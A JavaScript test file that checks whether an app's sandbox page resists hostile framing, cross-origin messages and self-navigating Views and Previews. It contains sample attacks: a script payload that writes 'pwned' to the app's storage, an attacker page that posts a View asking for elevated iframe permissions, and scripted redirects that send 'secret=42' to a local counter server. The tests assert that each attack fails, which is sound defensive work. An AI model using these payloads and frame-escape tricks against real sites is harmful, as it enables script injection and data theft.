// The MCP Apps sandbox page (sandbox.html) as another site would use it,
// and Views and Previews trying to leave their policy by navigating their
// own frame. The page must never run anything on the app's origin, take
// messages from anyone but the app, or let a View or a Preview reach a
// server it did not declare.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { ROOT, launchBrowser, scriptedHarness, send } from './support.mjs';
import { startStaticServer } from '../support/static-server.mjs';
import { reply, startScriptedModel } from '../support/scripted-model.mjs';

/** A server on 127.0.0.1 that counts what reaches it and answers `html`. */
async function startCounter(html = 'reached') {
  const hits = [];
  const server = createServer((req, res) => {
    hits.push(req.url);
    res.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' });
    res.end(typeof html === 'function' ? html() : html);
  });
  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
  return { hits, url: `http://127.0.0.1:${server.address().port}`, stop: () => new Promise((ok) => server.close(ok)) };
}

// What a hostile View would run if it were created: it writes to storage
// and tells the framing page.
const PAYLOAD = '<script>try { localStorage.setItem("pwned", "1"); } catch (e) {} top.postMessage("ran", "*"); parent.postMessage("ran", "*");</script>';

/** The attacker's page: frames `target` (with `sandbox` if given) and posts it a View asking for the app's origin. */
function attackerPage(target, sandbox) {
  return `<!doctype html><title>attacker</title><body><script>
    window.seen = [];
    addEventListener('message', (e) => window.seen.push(typeof e.data === 'string' ? e.data : (e.data && e.data.method) || 'other'));
    const f = document.createElement('iframe');
    ${sandbox ? `f.setAttribute('sandbox', ${JSON.stringify(sandbox)});` : ''}
    f.src = ${JSON.stringify(target)};
    f.onload = () => {
      const msg = { jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready',
        params: { html: ${JSON.stringify(PAYLOAD).replace(/</g, '\\u003c')}, sandbox: 'allow-scripts allow-same-origin allow-popups', allow: 'camera; microphone' } };
      for (let i = 0; i < 5; i++) setTimeout(() => f.contentWindow.postMessage(msg, '*'), i * 100);
      setTimeout(() => { window.done = true; }, 1500);
    };
    document.body.appendChild(f);
  </script>`;
}

describe('sandbox.html framed by another site', () => {
  let app;
  let guarded;
  let attacker;
  let browser;
  let page = '';
  before(async () => {
    // The app served without the frame-ancestors header, to see what the
    // page itself does; and once with it, as the README asks of hosts.
    app = await startStaticServer(join(ROOT, 'dist'), 0, { frameAncestors: false });
    guarded = await startStaticServer(join(ROOT, 'dist'), 0);
    attacker = await startCounter(() => page);
    browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
    app?.server.close();
    guarded?.server.close();
    await attacker?.stop();
  });

  /** Loads the attacker's page framing `target`; returns what it heard and the frames under the sandbox page. */
  async function attack(target, sandbox) {
    page = attackerPage(target, sandbox);
    const context = await browser.newContext();
    const tab = await context.newPage();
    await tab.goto(`${attacker.url}/`);
    await tab.waitForFunction(() => window.done === true, null, { timeout: 15_000 });
    const seen = await tab.evaluate(() => window.seen);
    const proxy = tab.frames().find((f) => f.url().endsWith('/sandbox.html'));
    const views = proxy ? proxy.childFrames().length : 0;
    // The app's own storage, read on its origin.
    const own = await context.newPage();
    await own.goto(`${new URL(target).origin}/manifest.webmanifest`);
    const pwned = await own.evaluate(() => localStorage.getItem('pwned'));
    await context.close();
    return { seen, views, pwned };
  }

  test('framed without a sandbox, it runs nothing on the app\'s origin', async () => {
    const r = await attack(`${app.url}/sandbox.html`, null);
    assert.equal(r.views, 0, 'no View frame is made');
    assert.deepEqual(r.seen, [], 'it says nothing, not even that it is ready');
    assert.equal(r.pwned, null, 'nothing ran with the app\'s storage');
  });

  test('framed with a sandbox by another origin, it takes none of that origin\'s messages', async () => {
    const r = await attack(`${app.url}/sandbox.html`, 'allow-scripts');
    assert.equal(r.views, 0, 'no View frame is made');
    assert.ok(!r.seen.includes('ran'), `the View never ran: ${r.seen}`);
    assert.ok(!r.seen.includes('ui/notifications/sandbox-proxy-ready'), 'its messages go to the app\'s origin only');
    assert.equal(r.pwned, null);
  });

  test('served with frame-ancestors \'self\', another site cannot frame it at all', async () => {
    const r = await attack(`${guarded.url}/sandbox.html`, null);
    assert.equal(r.views, 0);
    assert.deepEqual(r.seen, []);
    assert.equal(r.pwned, null);
  });
});

describe('Views and Previews that navigate their own frame', () => {
  const h = scriptedHarness({ before, after }, startScriptedModel);
  let target;
  before(async () => {
    target = await startCounter();
  });
  after(async () => {
    await target?.stop();
  });

  test('a Preview that sets its location reaches no server', async () => {
    const { context, page } = await h.freshPage();
    const leak = `${target.url}/leak?secret=42`;
    const html = `<!doctype html><p id="p">leaving</p><script>setTimeout(() => { location = ${JSON.stringify(leak)}; }, 50); setTimeout(() => { location.href = ${JSON.stringify(leak + '&again')}; }, 300);</script>`;
    h.model.enqueue(reply.text('A page:\n\n```html\n' + html + '\n```'));
    await send(page, 'Show me a page');
    await page.getByTestId('regenerate').waitFor({ timeout: 20_000 });
    await page.getByTestId('message-assistant').last().locator('[data-preview-code]').first().click();
    await page.frameLocator('[data-testid=code-preview]').frameLocator('iframe').locator('#p').waitFor({ timeout: 20_000 }).catch(() => {});
    await page.waitForTimeout(1500);
    assert.deepEqual(target.hits, [], 'the navigation was refused');
    await context.close();
  });

  test('a View the app frames, navigating itself, reaches no server and is no longer relayed', async () => {
    // A page on the app's origin that frames sandbox.html as the app does
    // (sandbox="allow-scripts") and hands it a View that leaves.
    const leak = `${target.url}/view-leak?secret=42`;
    const host = `<!doctype html><title>host</title><body><script>
      window.heard = [];
      const f = document.createElement('iframe');
      f.setAttribute('sandbox', 'allow-scripts');
      addEventListener('message', (e) => {
        if (e.source !== f.contentWindow) return;
        const m = e.data && e.data.method;
        window.heard.push(m || String(e.data));
        if (m === 'ui/notifications/sandbox-proxy-ready') {
          f.contentWindow.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready', params: {
            html: '<script>parent.postMessage({jsonrpc:"2.0",method:"before"},"*"); setTimeout(() => { location = ${JSON.stringify(leak)}; }, 100);<\\/script>',
            frameDomains: [] } }, '*');
        }
      });
      f.src = 'sandbox.html';
      document.body.appendChild(f);
    </script>`;
    const served = await startStaticServer(join(ROOT, 'dist'), 0, { extra: { '/host.html': host } });
    const context = await h.browser.newContext();
    const tab = await context.newPage();
    await tab.goto(`${served.url}/host.html`);
    await tab.waitForFunction(() => window.heard.includes('before'), null, { timeout: 15_000 });
    await tab.waitForTimeout(1500);
    assert.deepEqual(target.hits, [], 'the View could not take its frame elsewhere');
    await context.close();
    served.server.close();
  });
});
